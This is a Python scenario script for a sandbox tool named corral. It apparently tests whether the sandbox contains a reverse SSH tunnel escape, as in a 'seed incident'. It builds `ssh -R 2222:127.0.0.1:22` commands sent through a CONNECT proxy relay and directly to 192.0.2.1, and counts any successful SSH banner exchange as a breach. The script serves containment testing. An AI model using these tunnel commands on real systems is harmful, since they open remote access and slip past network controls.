"""ssh-tunnel: a reverse SSH tunnel out of the sandbox, as in the seed incident.

Attack:
  - an SSH banner exchange with the runner's SSH-banner server through
    corral's HTTP proxy (its name is allowed, so only the proxy's
    first-bytes check can refuse SSH);
  - `ssh -N -R 2222:127.0.0.1:22` to that server through the proxy (a
    ProxyCommand that speaks CONNECT), when an ssh client exists;
  - `ssh -N -R` to 192.0.2.1 (TEST-NET-1) directly, when ssh exists.
Twin: an HTTP request to the runner's allowed web server through the
proxy (what `curl`, pip or git over HTTPS do).

Safe: the SSH server is the runner's own on 127.0.0.1 and only sends a
banner (no key exchange, no forwarding ever happens); 192.0.2.1 is only
tried when the sandbox has nothing but loopback; ssh runs with
BatchMode, no config, no known_hosts and a 4 s connect timeout.

Contained: no SSH banner exchange with the server succeeded (the proxy
refused every SSH session), or corral ended the run on a finding
(`tunnel.*`).
"""

import os
import select
import socket
import subprocess
import sys

import corral_scenario as cs


def relay(host, port):
    """ProxyCommand: a CONNECT tunnel on stdin/stdout."""
    try:
        s = cs.proxy_connect(host, int(port), timeout=None)
    except (cs.Refused, OSError) as e:
        sys.stderr.write("relay: %s\n" % e)
        sys.exit(1)
    s.settimeout(None)
    fds = [0, s.fileno()]
    while True:
        ready, _, _ = select.select(fds, [], [], 10)
        if not ready:
            break
        if 0 in ready:
            data = os.read(0, 65536)
            if not data:
                s.shutdown(socket.SHUT_WR)
                fds.remove(0)
            else:
                s.sendall(data)
        if s.fileno() in ready:
            data = s.recv(65536)
            if not data:
                break
            os.write(1, data)


def ssh_argv(ssh, dest, port, proxy_command=None):
    argv = [ssh, "-v", "-F", "/dev/null", "-N",
            "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
            "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=4",
            "-o", "ExitOnForwardFailure=yes",
            "-R", "2222:127.0.0.1:22", "-p", str(port)]
    if proxy_command:
        argv += ["-o", "ProxyCommand=" + proxy_command]
    return argv + ["tunnel@" + dest]


def run_ssh(argv, by):
    """ssh's banner exchange succeeded when it names the remote software."""
    try:
        p = subprocess.run(argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE, timeout=8)
        err = p.stderr.decode("utf-8", "replace")
    except subprocess.TimeoutExpired as e:
        err = (e.stderr or b"").decode("utf-8", "replace")
    for line in err.splitlines():
        if "remote software version" in line:
            raise cs.Breach("banner exchanged: " + line.strip()[:200])
    last = [l for l in err.splitlines() if l.strip() and not l.startswith("debug")]
    raise cs.Refused(("ssh: " + last[-1].strip()) if last else "ssh failed", by=by)


def attack():
    cs.begin()
    host, port = cs.target("ssh")

    def banner():
        s = cs.proxy_connect(host, port)
        try:
            s.sendall(b"SSH-2.0-OpenSSH_9.6p1 corral-verify\r\n")
            s.settimeout(5)
            got = s.recv(256)
        finally:
            s.close()
        if got.startswith(b"SSH-"):
            return "server banner: " + got.decode("latin-1").strip()
        raise cs.Refused("the proxy closed the tunnel before the server's banner", by="proxy")

    cs.attempt("SSH banner exchange with %s:%d through the proxy" % (host, port), banner)
    ssh = cs.which("ssh")
    if ssh is None:
        cs.skipped("ssh -R through the proxy", "no ssh client in the sandbox")
        cs.skipped("ssh -R to 192.0.2.1 directly", "no ssh client in the sandbox")
    else:
        me = os.path.abspath(__file__)
        proxy_command = "%s %s relay %%h %%p" % (sys.executable, me)
        cs.attempt("ssh -R 2222:127.0.0.1:22 tunnel@%s through the proxy" % host,
                   lambda: run_ssh(ssh_argv(ssh, host, port, proxy_command), "proxy"))

        def direct():
            if not cs.isolated():
                raise cs.Breach("not attempted: the sandbox has interfaces besides loopback")
            run_ssh(ssh_argv(ssh, "192.0.2.1", 22), "netns")

        cs.attempt("ssh -R 2222:127.0.0.1:22 tunnel@192.0.2.1 directly", direct, by="netns")
    cs.end()


def twin():
    cs.begin()
    host, port = cs.target("web")
    cs.attempt("GET http://%s:%d/ through the proxy" % (host, port),
               lambda: "HTTP %d" % cs.http_via_proxy("GET", "http://%s:%d/" % (host, port))[0])
    cs.end()


if __name__ == "__main__":
    if cs.MODE == "relay":
        relay(sys.argv[2], sys.argv[3])
    elif cs.MODE == "attack":
        attack()
    else:
        twin()
